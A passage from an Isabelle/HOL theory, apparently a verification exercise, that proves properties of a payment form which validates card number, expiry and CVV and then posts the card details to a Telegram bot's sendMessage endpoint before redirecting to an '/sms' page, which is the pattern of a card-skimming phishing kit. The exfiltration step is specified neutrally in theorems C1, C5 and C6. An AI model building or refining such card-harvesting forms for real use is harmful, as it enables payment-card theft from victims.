  by (cases d) (auto simp: test_visa spec_visa_def starts_with_def str_def)

lemma range_1_5:
  "(0x31 \<le> x \<and> x \<le> 0x35) = (x = 0x31 \<or> x = 0x32 \<or> x = 0x33 \<or> x = 0x34 \<or> x = 0x35)"
  for x :: jschar
  by (simp add: word_le_nat_alt word_unat_eq_iff) arith

lemma mastercard_spec:
  assumes "list_all isDigit d"
  shows "test mastercard_re d = spec_mastercard d"
proof -
  have "test mastercard_re d =
      (\<exists>x rest. d = 0x35 # x # rest \<and> length rest = 14
         \<and> (x = 0x31 \<or> x = 0x32 \<or> x = 0x33 \<or> x = 0x34 \<or> x = 0x35))"
    by (simp only: test_mastercard [OF assms] range_1_5)
  also have "\<dots> = spec_mastercard d"
    by (cases d; cases "tl d") (auto simp: spec_mastercard_def starts_with_def str_def)
  finally show ?thesis .
qed

lemma amex_spec: "list_all isDigit d \<Longrightarrow> test amex_re d = spec_amex d"
  by (cases d; cases "tl d") (auto simp: test_amex spec_amex_def starts_with_def str_def)

lemma discover_spec: "list_all isDigit d \<Longrightarrow> test discover_re d = spec_discover d"
  by (cases d; cases "tl d"; cases "tl (tl d)"; cases "tl (tl (tl d))")
     (auto simp: test_discover spec_discover_def starts_with_def str_def)

lemma card_types_distinct:
  "Visa \<noteq> MasterCard" "Visa \<noteq> AmericanExpress" "Visa \<noteq> Discover" "Visa \<noteq> Unknown"
  "MasterCard \<noteq> AmericanExpress" "MasterCard \<noteq> Discover" "MasterCard \<noteq> Unknown"
  "AmericanExpress \<noteq> Discover" "AmericanExpress \<noteq> Unknown" "Discover \<noteq> Unknown"
  by (simp_all add: Visa_def MasterCard_def AmericanExpress_def Discover_def Unknown_def str_def)

lemma spec_exclusive:
  "spec_visa d \<Longrightarrow> \<not> spec_mastercard d \<and> \<not> spec_amex d \<and> \<not> spec_discover d"
  "spec_mastercard d \<Longrightarrow> \<not> spec_amex d \<and> \<not> spec_discover d"
  "spec_amex d \<Longrightarrow> \<not> spec_discover d"
  by (cases d; auto simp: spec_visa_def spec_mastercard_def spec_amex_def spec_discover_def
      starts_with_def str_def)+

lemma getCardType_refines: "getCardType s = spec_detectCardType s"
proof -
  have "list_all isDigit (filter isDigit s)" by (simp add: list_all_iff)
  then show ?thesis
    by (simp add: getCardType_def spec_detectCardType_def strip_non_digits_def Let_def
        visa_spec mastercard_spec amex_spec discover_spec)
qed

text \<open>
  C3. For every input string, \<open>getCardType\<close> strips the non-digits and answers, by first
  match: Visa iff the digits start with 4 and are 13 or 16 long; MasterCard iff they start
  with 51 to 55 and are 16 long; American Express iff they start with 34 or 37 and are 15
  long; Discover iff they start with 6011, or with 65 and two more digits, and are 16
  long; Unknown otherwise.
\<close>

theorem C3_getCardType_spec:
  "getCardType s = spec_detectCardType s
   \<and> (getCardType s = Visa) = spec_visa (strip_non_digits s)
   \<and> (getCardType s = MasterCard) = spec_mastercard (strip_non_digits s)
   \<and> (getCardType s = AmericanExpress) = spec_amex (strip_non_digits s)
   \<and> (getCardType s = Discover) = spec_discover (strip_non_digits s)
   \<and> (getCardType s = Unknown) =
       (\<not> spec_visa (strip_non_digits s) \<and> \<not> spec_mastercard (strip_non_digits s)
        \<and> \<not> spec_amex (strip_non_digits s) \<and> \<not> spec_discover (strip_non_digits s))"
  using spec_exclusive [of "filter isDigit s"] card_types_distinct
  by (auto simp: getCardType_refines spec_detectCardType_def strip_non_digits_def Let_def)

subsection \<open>The submission pipeline\<close>

lemma posts_simps:
  "posts [] = []"
  "posts (AxiosPost url body # es) = (url, body) # posts es"
  "posts (PreventDefault # es) = posts es"
  "posts (SetAlertVisible b # es) = posts es"
  "posts (SetIsSubmitting b # es) = posts es"
  "posts (Alert t # es) = posts es"
  "posts (SetTimeoutRouterPush r n # es) = posts es"
  "posts (ConsoleError t # es) = posts es"
  "posts (Uncaught err # es) = posts es"
  by (simp_all add: posts_def)

lemma handleSubmit_pass:
  "checksPass e p \<Longrightarrow>
   handleSubmit e p =
     (case postResult e of
        Resolved \<Rightarrow>
          (p\<lparr>isSubmitting := True\<rparr>,
           [PreventDefault, SetIsSubmitting True,
            AxiosPost (sendMessageUrl (TELEGRAM_BOT_TOKEN e))
              (requestBody (TELEGRAM_CHAT_ID e)
                 (message (formData p) (cardType p) (localeString e))),
            SetTimeoutRouterPush (str ''/sms'') 3000])
      | Rejected \<Rightarrow>
          (p\<lparr>isSubmitting := False\<rparr>,
           [PreventDefault, SetIsSubmitting True,
            AxiosPost (sendMessageUrl (TELEGRAM_BOT_TOKEN e))
              (requestBody (TELEGRAM_CHAT_ID e)
                 (message (formData p) (cardType p) (localeString e))),
            SetIsSubmitting False, ConsoleError (str ''Telegram Error:''), Alert failedNotice]))"
  by (simp add: handleSubmit_def checksPass_def Let_def)

lemma handleSubmit_stop:
  "\<not> checksPass e p \<Longrightarrow> posts (snd (handleSubmit e p)) = []"
  by (auto simp: handleSubmit_def checksPass_def Let_def posts_simps split: sum.splits)

lemma sample_expiry:
  "isExpiryValid (utc sampleEnv) (now sampleEnv) (str ''12/99'') = Inr True"
  by (simp add: sampleEnv_def isExpiryValid_def falsy_def lengthOf_def parseIntOf_def str_def
      parseInt_def isWhiteSpace_def radixDigit_def num_add_def num_sub_def num_gt_def
      newDate_def TimeClip_def MakeDate_def MakeDay_def MakeFullYear_def DayFromYear_def
      DayWithinYear_def InLeapYear_def msPerDay_def Let_def)

lemma sample_luhn: "isLuhnValid (str ''4111 1111 1111 1111'')"
  by (simp add: isLuhnValid_def strip_non_digits_def str_def isDigit_def digitValue_def
      luhn_step_def Let_def)

lemma run_digit_iff: "run digit (x # xs) = (if isDigit x then [xs] else [])"
  by (simp add: digit_def isDigit_def)

lemma iter_digit_any:
  "iter (run digit) n s =
     (if n \<le> length s \<and> list_all isDigit (take n s) then [drop n s] else [])"
proof (induction n arbitrary: s)
  case 0
  show ?case by simp
next
  case (Suc n)
  show ?case
  proof (cases s)
    case Nil
    then show ?thesis by (simp add: digit_def)
  next
    case (Cons x xs)
    show ?thesis
    proof (cases "isDigit x")
      case True
      then show ?thesis using Cons Suc.IH [of xs] by (simp add: run_digit_iff)
    next
      case False
      then show ?thesis using Cons by (simp add: run_digit_iff)
    qed
  qed
qed

lemma test_digits: "test (Rep n digit) s = (length s = n \<and> list_all isDigit s)"
  by (auto simp: test_def iter_digit_any)

lemma isCVVValid_iff:
  "isCVVValid c ct =
     (list_all isDigit c \<and> length c = (if ct = AmericanExpress then 4 else 3))"
  by (auto simp: isCVVValid_def test_digits)

lemma sample_cvv: "isCVVValid (str ''123'') Visa"
  by (simp add: isCVVValid_iff card_types_distinct str_def isDigit_def)

lemma sample_checksPass: "checksPass sampleEnv samplePage"
  using sample_expiry sample_luhn sample_cvv
  by (simp add: checksPass_def samplePage_def sampleForm_def card_types_distinct)
     (simp add: str_def)

lemma sample_expired:
  "isExpiryValid (utc sampleEnv) (now sampleEnv) (str ''01/20'') = Inr False"
  by (simp add: sampleEnv_def isExpiryValid_def falsy_def lengthOf_def parseIntOf_def str_def
      parseInt_def isWhiteSpace_def radixDigit_def num_add_def num_sub_def num_gt_def
      newDate_def TimeClip_def MakeDate_def MakeDay_def MakeFullYear_def DayFromYear_def
      DayWithinYear_def InLeapYear_def msPerDay_def Let_def)

lemma sample_bad_cvv: "\<not> isCVVValid (str ''1234'') Visa"
  by (simp add: isCVVValid_iff card_types_distinct str_def)

lemma sample_not_empty: "\<not> anyFieldEmpty samplePage"
  by (simp add: anyFieldEmpty_def samplePage_def sampleForm_def str_def)

text \<open>
  C1. \<open>handleSubmit\<close> issues the POST if and only if the five fields are non-empty, the
  Luhn check passes, the card type is not \<open>Unknown\<close>, the expiry is valid and the CVV is
  valid. The checks run in that order: the first one that fails decides what
  \<open>handleSubmit\<close> does, and nothing is transmitted.
\<close>

theorem C1_post_iff_checks:
  "(posts (snd (handleSubmit e p)) \<noteq> []) = checksPass e p
   \<and> (anyFieldEmpty p \<longrightarrow>
        snd (handleSubmit e p) = [PreventDefault, SetAlertVisible True])
   \<and> (\<not> anyFieldEmpty p \<and> \<not> isLuhnValid (cardNumber (formData p)) \<longrightarrow>
        snd (handleSubmit e p) = [PreventDefault, Alert luhnNotice])
   \<and> (\<not> anyFieldEmpty p \<and> isLuhnValid (cardNumber (formData p)) \<and> cardType p = Unknown \<longrightarrow>
        snd (handleSubmit e p) = [PreventDefault, Alert unknownNotice])
   \<and> (\<not> anyFieldEmpty p \<and> isLuhnValid (cardNumber (formData p)) \<and> cardType p \<noteq> Unknown
       \<and> isExpiryValid (utc e) (now e) (expiry (formData p)) = Inr False \<longrightarrow>
        snd (handleSubmit e p) = [PreventDefault, Alert expiryNotice])
   \<and> (\<not> anyFieldEmpty p \<and> isLuhnValid (cardNumber (formData p)) \<and> cardType p \<noteq> Unknown
       \<and> isExpiryValid (utc e) (now e) (expiry (formData p)) = Inr True
       \<and> \<not> isCVVValid (cvv (formData p)) (cardType p) \<longrightarrow>
        snd (handleSubmit e p) = [PreventDefault, Alert (cvvNotice (cardType p))])"
proof -
  have "(posts (snd (handleSubmit e p)) \<noteq> []) = checksPass e p"
  proof (cases "checksPass e p")
    case True
    then show ?thesis
      by (cases "postResult e") (simp_all add: handleSubmit_pass posts_simps)
  next
    case False
    then show ?thesis by (simp add: handleSubmit_stop)
  qed
  then show ?thesis
    by (simp add: handleSubmit_def anyFieldEmpty_def Let_def)
qed

theorem C1_post_iff_checks_witness:
  "posts (snd (handleSubmit sampleEnv samplePage)) \<noteq> []
   \<and> snd (handleSubmit sampleEnv initialPage) = [PreventDefault, SetAlertVisible True]
   \<and> snd (handleSubmit sampleEnv
        (samplePage\<lparr>formData := sampleForm\<lparr>cardNumber := str ''4111111111111112''\<rparr>\<rparr>))
      = [PreventDefault, Alert luhnNotice]
   \<and> snd (handleSubmit sampleEnv (samplePage\<lparr>cardType := Unknown\<rparr>))
      = [PreventDefault, Alert unknownNotice]
   \<and> snd (handleSubmit sampleEnv (samplePage\<lparr>formData := sampleForm\<lparr>expiry := str ''01/20''\<rparr>\<rparr>))
      = [PreventDefault, Alert expiryNotice]
   \<and> snd (handleSubmit sampleEnv (samplePage\<lparr>formData := sampleForm\<lparr>cvv := str ''1234''\<rparr>\<rparr>))
      = [PreventDefault, Alert (cvvNotice Visa)]"
proof -
  have pass: "posts (snd (handleSubmit sampleEnv samplePage)) \<noteq> []"
    using C1_post_iff_checks [of sampleEnv samplePage] sample_checksPass by simp
  have empty: "snd (handleSubmit sampleEnv initialPage) = [PreventDefault, SetAlertVisible True]"
    using C1_post_iff_checks [of sampleEnv initialPage]
    by (simp add: anyFieldEmpty_def initialPage_def)
  have luhn: "snd (handleSubmit sampleEnv
        (samplePage\<lparr>formData := sampleForm\<lparr>cardNumber := str ''4111111111111112''\<rparr>\<rparr>))
      = [PreventDefault, Alert luhnNotice]"
    using C1_post_iff_checks [of sampleEnv
        "samplePage\<lparr>formData := sampleForm\<lparr>cardNumber := str ''4111111111111112''\<rparr>\<rparr>"]
      isLuhnValid_vector_invalid
    by (simp add: anyFieldEmpty_def sampleForm_def) (simp add: str_def)
  have unknown: "snd (handleSubmit sampleEnv (samplePage\<lparr>cardType := Unknown\<rparr>))
      = [PreventDefault, Alert unknownNotice]"
    using C1_post_iff_checks [of sampleEnv "samplePage\<lparr>cardType := Unknown\<rparr>"]
      sample_not_empty sample_luhn
    by (simp add: anyFieldEmpty_def samplePage_def sampleForm_def)
  have expired: "snd (handleSubmit sampleEnv
        (samplePage\<lparr>formData := sampleForm\<lparr>expiry := str ''01/20''\<rparr>\<rparr>))
      = [PreventDefault, Alert expiryNotice]"
    using C1_post_iff_checks [of sampleEnv
        "samplePage\<lparr>formData := sampleForm\<lparr>expiry := str ''01/20''\<rparr>\<rparr>"]
      sample_expired sample_luhn
    by (simp add: anyFieldEmpty_def samplePage_def sampleForm_def card_types_distinct)
       (simp add: str_def)
  have cvv: "snd (handleSubmit sampleEnv
        (samplePage\<lparr>formData := sampleForm\<lparr>cvv := str ''1234''\<rparr>\<rparr>))
      = [PreventDefault, Alert (cvvNotice Visa)]"
    using C1_post_iff_checks [of sampleEnv
        "samplePage\<lparr>formData := sampleForm\<lparr>cvv := str ''1234''\<rparr>\<rparr>"]
      sample_expiry sample_bad_cvv sample_luhn
    by (simp add: anyFieldEmpty_def samplePage_def sampleForm_def card_types_distinct)
       (simp add: str_def)
  show ?thesis
    using pass empty luhn unknown expired cvv by simp
qed

subsection \<open>The request\<close>

lemma posts_pass:
  "checksPass e p \<Longrightarrow>
   posts (snd (handleSubmit e p)) =
     [(sendMessageUrl (TELEGRAM_BOT_TOKEN e),
       requestBody (TELEGRAM_CHAT_ID e) (message (formData p) (cardType p) (localeString e)))]"
  by (cases "postResult e") (simp_all add: handleSubmit_pass posts_simps)

lemma message_spec:
  "message fd ct ts = LF @ spec_message fd ct ts @ LF @ str ''    ''"
  by (simp add: message_def spec_message_def)

text \<open>
  C5, as amended. When every check passes, \<open>handleSubmit\<close> issues exactly one POST, to
  \<open>https://api.telegram.org/bot<TOKEN>/sendMessage\<close>, whose body has exactly the keys
  \<open>chat_id\<close> (the configured channel id), \<open>text\<close> and \<open>parse_mode\<close> (\<open>Markdown\<close>). The text
  is the template of the specification, character for character, preceded by a line
  feed and followed by a line feed and four spaces.
\<close>

theorem C5_post_request:
  "checksPass e p \<Longrightarrow>
   posts (snd (handleSubmit e p)) =
     [(str ''https://api.telegram.org/bot'' @ TELEGRAM_BOT_TOKEN e @ str ''/sendMessage'',
       [(str ''chat_id'', TELEGRAM_CHAT_ID e),
        (str ''text'',
         LF @ spec_message (formData p) (cardType p) (localeString e) @ LF @ str ''    ''),
        (str ''parse_mode'', str ''Markdown'')])]"
  by (simp add: posts_pass sendMessageUrl_def requestBody_def message_spec)

theorem C5_post_request_witness:
  "posts (snd (handleSubmit sampleEnv samplePage)) =
     [(str ''https://api.telegram.org/botTOKEN/sendMessage'',
       [(str ''chat_id'', str ''CHAT''),
        (str ''text'',
         LF @ spec_message sampleForm Visa (str ''11/2/2026, 9:00:00 AM'') @ LF @ str ''    ''),
        (str ''parse_mode'', str ''Markdown'')])]"
  using C5_post_request [OF sample_checksPass]
  by (simp add: sampleEnv_def samplePage_def str_def)

text \<open>
  The claim as stated, with no extra leading or trailing characters, fails: the text that
  is posted for the sample form is not the template's text.
\<close>

theorem C5_counterexample:
  "postedTexts (snd (handleSubmit sampleEnv samplePage))
   \<noteq> [spec_message (formData samplePage) (cardType samplePage) (localeString sampleEnv)]"
  by (simp add: posts_pass [OF sample_checksPass] postedTexts_def requestBody_def message_spec
      LF_def spec_message_def)

subsection \<open>The outcome of the request\<close>

lemma sample_rejected: "checksPass (sampleEnv\<lparr>postResult := Rejected\<rparr>) samplePage"
  using sample_checksPass by (simp add: checksPass_def sampleEnv_def)

text \<open>
  C6. When the POST rejects, \<open>handleSubmit\<close> resets \<open>isSubmitting\<close> to false, writes one
  entry to the console, raises the notice that sending failed, schedules no navigation
  and leaves the form editable. When the POST succeeds, \<open>isSubmitting\<close> was set before
  the request and stays true, and the navigation to \<open>/sms\<close> is scheduled 3000 ms later.
\<close>

theorem C6_post_outcome:
  "checksPass e p \<Longrightarrow>
   (postResult e = Rejected \<longrightarrow>
      snd (handleSubmit e p) =
        [PreventDefault, SetIsSubmitting True,
         AxiosPost (sendMessageUrl (TELEGRAM_BOT_TOKEN e))
           (requestBody (TELEGRAM_CHAT_ID e) (message (formData p) (cardType p) (localeString e))),
         SetIsSubmitting False, ConsoleError (str ''Telegram Error:''), Alert failedNotice]
      \<and> isSubmitting (fst (handleSubmit e p)) = False
      \<and> length (logs (snd (handleSubmit e p))) = 1
      \<and> alerts (snd (handleSubmit e p)) = [Alert failedNotice]
      \<and> navigations (snd (handleSubmit e p)) = [])
   \<and> (postResult e = Resolved \<longrightarrow>
      snd (handleSubmit e p) =
        [PreventDefault, SetIsSubmitting True,
         AxiosPost (sendMessageUrl (TELEGRAM_BOT_TOKEN e))
           (requestBody (TELEGRAM_CHAT_ID e) (message (formData p) (cardType p) (localeString e))),
         SetTimeoutRouterPush (str ''/sms'') 3000]
      \<and> isSubmitting (fst (handleSubmit e p)) = True
      \<and> navigations (snd (handleSubmit e p)) = [SetTimeoutRouterPush (str ''/sms'') 3000])"
  by (simp add: handleSubmit_pass logs_def navigations_def alerts_def)

theorem C6_post_outcome_witness:
  "isSubmitting (fst (handleSubmit (sampleEnv\<lparr>postResult := Rejected\<rparr>) samplePage)) = False
   \<and> length (logs (snd (handleSubmit (sampleEnv\<lparr>postResult := Rejected\<rparr>) samplePage))) = 1
   \<and> navigations (snd (handleSubmit (sampleEnv\<lparr>postResult := Rejected\<rparr>) samplePage)) = []
   \<and> isSubmitting (fst (handleSubmit sampleEnv samplePage)) = True
   \<and> navigations (snd (handleSubmit sampleEnv samplePage))
       = [SetTimeoutRouterPush (str ''/sms'') 3000]"
proof -
  have rejected: "postResult (sampleEnv\<lparr>postResult := Rejected\<rparr>) = Rejected"
    by simp
  have resolved: "postResult sampleEnv = Resolved"
    by (simp add: sampleEnv_def)
  show ?thesis
    using C6_post_outcome [OF sample_rejected, THEN conjunct1, rule_format, OF rejected]
      C6_post_outcome [OF sample_checksPass, THEN conjunct2, rule_format, OF resolved]
    by (simp add: logs_def navigations_def)
qed

subsection \<open>What a submission leaves alone\<close>

text \<open>
  C9. \<open>handleSubmit\<close> never writes the five fields of the form: on every path the form
  data and the card type after the handler are those before it; only \<open>alertVisible\<close> and
  \<open>isSubmitting\<close> change.
\<close>

theorem C9_submit_frame:
  "formData (fst (handleSubmit e p)) = formData p
   \<and> cardType (fst (handleSubmit e p)) = cardType p
   \<and> fst (handleSubmit e p)
       = p\<lparr>alertVisible := alertVisible (fst (handleSubmit e p)),
            isSubmitting := isSubmitting (fst (handleSubmit e p))\<rparr>"
  by (cases "postResult e") (simp_all add: handleSubmit_def Let_def split: sum.splits)

subsection \<open>Card numbers without a digit\<close>

lemma notices_distinct:
  "luhnNotice \<noteq> unknownNotice" "luhnNotice \<noteq> expiryNotice" "luhnNotice \<noteq> cvvNotice ct"
  "luhnNotice \<noteq> failedNotice"
  by (simp_all add: luhnNotice_def unknownNotice_def expiryNotice_def cvvNotice_def
      failedNotice_def crossMark_def str_def)

lemma strip_digit_free: "list_all (\<lambda>c. \<not> isDigit c) s \<Longrightarrow> strip_non_digits s = []"
  by (induction s) (simp_all add: strip_non_digits_def)

lemma isLuhnValid_digit_free: "list_all (\<lambda>c. \<not> isDigit c) s \<Longrightarrow> isLuhnValid s"
  by (simp add: isLuhnValid_def strip_digit_free)

lemma getCardType_digit_free: "list_all (\<lambda>c. \<not> isDigit c) s \<Longrightarrow> getCardType s = Unknown"
  by (simp add: getCardType_def strip_digit_free test_def visa_re_def mastercard_re_def
      amex_re_def discover_re_def)

lemma luhn_passed:
  "isLuhnValid (cardNumber (formData p)) \<Longrightarrow> Alert luhnNotice \<notin> set (snd (handleSubmit e p))"
  by (cases "postResult e")
     (simp_all add: handleSubmit_def Let_def notices_distinct split: sum.splits)

text \<open>
  C8. A card number without any digit (the empty string too) passes the Luhn check,
  since the sum over no digits is 0. In \<open>handleSubmit\<close> the Luhn step therefore never
  stops such a number: the empty one is stopped before, by the check of the fields, and
  a non-empty one goes on to the check of the card type.
\<close>

theorem C8_digit_free_passes_luhn:
  "list_all (\<lambda>c. \<not> isDigit c) (cardNumber (formData p)) \<Longrightarrow>
   isLuhnValid (cardNumber (formData p))
   \<and> Alert luhnNotice \<notin> set (snd (handleSubmit e p))
   \<and> (cardNumber (formData p) = [] \<longrightarrow>
        snd (handleSubmit e p) = [PreventDefault, SetAlertVisible True])
   \<and> (\<not> anyFieldEmpty p \<and> cardType p = getCardType (cardNumber (formData p)) \<longrightarrow>
        snd (handleSubmit e p) = [PreventDefault, Alert unknownNotice])"
  by (simp add: isLuhnValid_digit_free luhn_passed getCardType_digit_free)
     (simp add: handleSubmit_def anyFieldEmpty_def Let_def isLuhnValid_digit_free)

theorem C8_digit_free_passes_luhn_witness:
  "isLuhnValid (str ''abcd'')
   \<and> snd (handleSubmit sampleEnv
        (samplePage\<lparr>formData := sampleForm\<lparr>cardNumber := str ''abcd''\<rparr>, cardType := Unknown\<rparr>))
      = [PreventDefault, Alert unknownNotice]
   \<and> snd (handleSubmit sampleEnv
        (samplePage\<lparr>formData := sampleForm\<lparr>cardNumber := []\<rparr>, cardType := Unknown\<rparr>))
      = [PreventDefault, SetAlertVisible True]"
proof -
  have free: "list_all (\<lambda>c. \<not> isDigit c) (str ''abcd'')"
    by (simp add: str_def isDigit_def)
  have "getCardType (str ''abcd'') = Unknown"
    using free by (rule getCardType_digit_free)
  then show ?thesis
    using C8_digit_free_passes_luhn [of
        "samplePage\<lparr>formData := sampleForm\<lparr>cardNumber := str ''abcd''\<rparr>, cardType := Unknown\<rparr>"
        sampleEnv]
      C8_digit_free_passes_luhn [of
        "samplePage\<lparr>formData := sampleForm\<lparr>cardNumber := []\<rparr>, cardType := Unknown\<rparr>"
        sampleEnv]
      free
    by (simp add: anyFieldEmpty_def sampleForm_def) (simp add: str_def)
qed

subsection \<open>The expiry check\<close>

lemma split_no_sep: "sep \<notin> set s \<Longrightarrow> split sep s = [s]"
  by (induction s) auto

lemma split_append: "sep \<notin> set m \<Longrightarrow> split sep (m @ sep # r) = m # split sep r"
  by (induction m) auto

lemma split_rest: "rest = [] \<or> hd rest = sep \<Longrightarrow> sep \<notin> set y \<Longrightarrow> \<exists>segs. split sep (y @ rest) = y # segs"
  by (cases rest) (auto simp: split_no_sep split_append)

lemma split_two:
  assumes "sep \<notin> set m" "sep \<notin> set y" "rest = [] \<or> hd rest = sep"
  shows "element (split sep (m @ sep # y @ rest)) 0 = Some m"
    and "element (split sep (m @ sep # y @ rest)) 1 = Some y"
proof -
  obtain segs where "split sep (y @ rest) = y # segs"
    using split_rest [OF assms(3) assms(2)] by blast
  then have "split sep (m @ sep # y @ rest) = m # y # segs"
    using assms(1) by (simp add: split_append)
  then show "element (split sep (m @ sep # y @ rest)) 0 = Some m"
    and "element (split sep (m @ sep # y @ rest)) 1 = Some y"
    by simp_all
qed

lemma split_nonempty: "split sep s \<noteq> []"
  by (induction s) (auto split: list.splits)

lemma isExpiryValid_segments:
  "element (split 0x2F e) 0 = Some m \<Longrightarrow> element (split 0x2F e) 1 = Some y \<Longrightarrow>
   isExpiryValid u n e =
     Inr (length m = 2 \<and> length y = 2
          \<and> num_gt (newDate u (num_add (Some 2000) (parseInt y)) (num_sub (parseInt m) (Some 1)) 1)
               (Some n))"
  by (auto simp: isExpiryValid_def Let_def falsy_def lengthOf_def parseIntOf_def)

lemma isExpiryValid_one_segment:
  "element (split 0x2F e) 1 = None \<Longrightarrow> isExpiryValid u n e = Inr False"
  by (simp add: isExpiryValid_def Let_def falsy_def)

lemma isExpiryValid_total: "\<exists>b. isExpiryValid u n e = Inr b"
proof (cases "element (split 0x2F e) 0")
  case None
  then show ?thesis by (auto simp: isExpiryValid_def Let_def falsy_def)
next
  case m: (Some m)
  show ?thesis
  proof (cases "element (split 0x2F e) 1")
    case None
    then show ?thesis by (auto simp: isExpiryValid_def Let_def falsy_def)
  next
    case (Some y)
    then show ?thesis using m by (simp add: isExpiryValid_segments)
  qed
qed

lemma digit_unat: "isDigit c \<Longrightarrow> 48 \<le> unat c \<and> unat c \<le> 57"
  by (simp add: isDigit_def word_le_nat_alt)

lemma digit_not_space: "isDigit c \<Longrightarrow> \<not> isWhiteSpace c"
  by (auto simp: isWhiteSpace_def isDigit_def word_le_nat_alt)

lemma digit_radix: "isDigit c \<Longrightarrow> radixDigit 10 c = Some (digitValue c)"
  using digit_unat [of c]
  by (auto simp: radixDigit_def isDigit_def digitValue_def Let_def)

lemma digit_not_sign: "isDigit c \<Longrightarrow> c \<noteq> 0x2D \<and> c \<noteq> 0x2B \<and> c \<noteq> 0x78 \<and> c \<noteq> 0x58"
  by (auto simp: isDigit_def)

lemma parseInt_two_digits:
  "isDigit a \<Longrightarrow> isDigit b \<Longrightarrow> parseInt [a, b] = Some (int (10 * digitValue a + digitValue b))"
  by (simp add: parseInt_def Let_def digit_not_space digit_not_sign digit_radix str_def)

lemma MakeFullYear_2000: "0 \<le> k \<Longrightarrow> MakeFullYear (2000 + k) = 2000 + k"
  by (simp add: MakeFullYear_def)

text \<open>
  C2, as amended. \<open>isExpiryValid\<close> splits its input at every \<open>/\<close> and reads the first two
  segments only. A string without \<open>/\<close> is invalid. Otherwise the string is valid iff the
  first two segments are exactly 2 characters long each, both parse to numbers, and the
  local date of year \<open>2000 + YY\<close>, month \<open>MM - 1\<close> (0-indexed), day 1 is strictly later than
  the current moment; what follows a second \<open>/\<close> is ignored. For two segments of two
  digits each the date is the one computed from the digits.
\<close>

theorem C2_isExpiryValid_segments:
  "(0x2F \<notin> set e \<longrightarrow> isExpiryValid u n e = Inr False)
   \<and> (0x2F \<notin> set m \<and> 0x2F \<notin> set y \<and> (rest = [] \<or> hd rest = 0x2F) \<longrightarrow>
        isExpiryValid u n (m @ 0x2F # y @ rest) =
          Inr (length m = 2 \<and> length y = 2
               \<and> num_gt (newDate u (num_add (Some 2000) (parseInt y))
                           (num_sub (parseInt m) (Some 1)) 1)
                    (Some n)))
   \<and> (isDigit a \<and> isDigit b \<and> isDigit c \<and> isDigit d \<longrightarrow>
        isExpiryValid u n [a, b, 0x2F, c, d] =
          Inr (case TimeClip (u (MakeDate
                       (MakeDay (2000 + int (10 * digitValue c + digitValue d))
                          (int (10 * digitValue a + digitValue b) - 1) 1) 0)) of
                 None \<Rightarrow> False
               | Some t \<Rightarrow> n < t))"
proof (intro conjI impI)
  assume "0x2F \<notin> set e"
  then have "split 0x2F e = [e]" by (rule split_no_sep)
  then show "isExpiryValid u n e = Inr False"
    by (simp add: isExpiryValid_one_segment)
next
  assume "0x2F \<notin> set m \<and> 0x2F \<notin> set y \<and> (rest = [] \<or> hd rest = 0x2F)"
  then have m: "0x2F \<notin> set m" and y: "0x2F \<notin> set y" and rest: "rest = [] \<or> hd rest = 0x2F"
    by blast+
  have "element (split 0x2F (m @ 0x2F # y @ rest)) 0 = Some m"
    and "element (split 0x2F (m @ 0x2F # y @ rest)) 1 = Some y"
    by (rule split_two [OF m y rest])+
  then show "isExpiryValid u n (m @ 0x2F # y @ rest) =
      Inr (length m = 2 \<and> length y = 2
           \<and> num_gt (newDate u (num_add (Some 2000) (parseInt y))
                       (num_sub (parseInt m) (Some 1)) 1)
                (Some n))"
    by (rule isExpiryValid_segments)
next
  assume digits: "isDigit a \<and> isDigit b \<and> isDigit c \<and> isDigit d"
  then have "(0x2F::jschar) \<notin> set [a, b]" and "(0x2F::jschar) \<notin> set [c, d]"
    by (auto simp: isDigit_def)
  then have "element (split 0x2F ([a, b] @ 0x2F # [c, d] @ [])) 0 = Some [a, b]"
    and "element (split 0x2F ([a, b] @ 0x2F # [c, d] @ [])) 1 = Some [c, d]"
    by (rule split_two, simp)+
  then have "isExpiryValid u n [a, b, 0x2F, c, d] =
      Inr (num_gt (newDate u (num_add (Some 2000) (parseInt [c, d]))
                     (num_sub (parseInt [a, b]) (Some 1)) 1) (Some n))"
    using isExpiryValid_segments [of "[a, b, 0x2F, c, d]" "[a, b]" "[c, d]" u n] by simp
  then show "isExpiryValid u n [a, b, 0x2F, c, d] =
      Inr (case TimeClip (u (MakeDate
                   (MakeDay (2000 + int (10 * digitValue c + digitValue d))
                      (int (10 * digitValue a + digitValue b) - 1) 1) 0)) of
             None \<Rightarrow> False
           | Some t \<Rightarrow> n < t)"
    using digits
    by (simp add: parseInt_two_digits num_add_def num_sub_def num_gt_def newDate_def
        MakeFullYear_def split: option.splits)
qed

theorem C2_isExpiryValid_segments_witness:
  "isExpiryValid (\<lambda>t. t) 1793577600000 (str ''1299'') = Inr False
   \<and> isExpiryValid (\<lambda>t. t) 1793577600000 (str ''12/99/77'') = Inr True
   \<and> isExpiryValid (\<lambda>t. t) 1793577600000 (str ''12/99'') = Inr True"
proof -
  note C2 = C2_isExpiryValid_segments [where e = "str ''1299''" and u = "\<lambda>t. t"
      and n = 1793577600000 and m = "str ''12''" and y = "str ''99''" and rest = "str ''/77''"
      and a = "0x31" and b = "0x32" and c = "0x39" and d = "0x39"]
  have date: "num_gt (newDate (\<lambda>t. t) (num_add (Some 2000) (parseInt (str ''99'')))
      (num_sub (parseInt (str ''12'')) (Some 1)) 1) (Some 1793577600000)"
    by (simp add: str_def parseInt_def isWhiteSpace_def radixDigit_def num_add_def num_sub_def
        num_gt_def newDate_def TimeClip_def MakeDate_def MakeDay_def MakeFullYear_def
        DayFromYear_def DayWithinYear_def InLeapYear_def msPerDay_def Let_def)
  have one: "isExpiryValid (\<lambda>t. t) 1793577600000 (str ''1299'') = Inr False"
    using C2 by (simp add: str_def)
  have three: "isExpiryValid (\<lambda>t. t) 1793577600000 (str ''12/99/77'') = Inr True"
    using C2 date by (simp add: str_def)
  have two: "isExpiryValid (\<lambda>t. t) 1793577600000 (str ''12/99'') = Inr True"
    using C2
    by (simp add: str_def isDigit_def digitValue_def TimeClip_def MakeDate_def MakeDay_def
        DayFromYear_def DayWithinYear_def InLeapYear_def msPerDay_def Let_def)
  show ?thesis using one two three by simp
qed

lemma three_segments:
  "isExpiryValid (utc sampleEnv) (now sampleEnv) (str ''12/99/77'') = Inr True"
  by (simp add: sampleEnv_def isExpiryValid_def falsy_def lengthOf_def parseIntOf_def str_def
      parseInt_def isWhiteSpace_def radixDigit_def num_add_def num_sub_def num_gt_def
      newDate_def TimeClip_def MakeDate_def MakeDay_def MakeFullYear_def DayFromYear_def
      DayWithinYear_def InLeapYear_def msPerDay_def Let_def)

text \<open>
  The claim as stated, that every string that is not two 2-character segments joined by
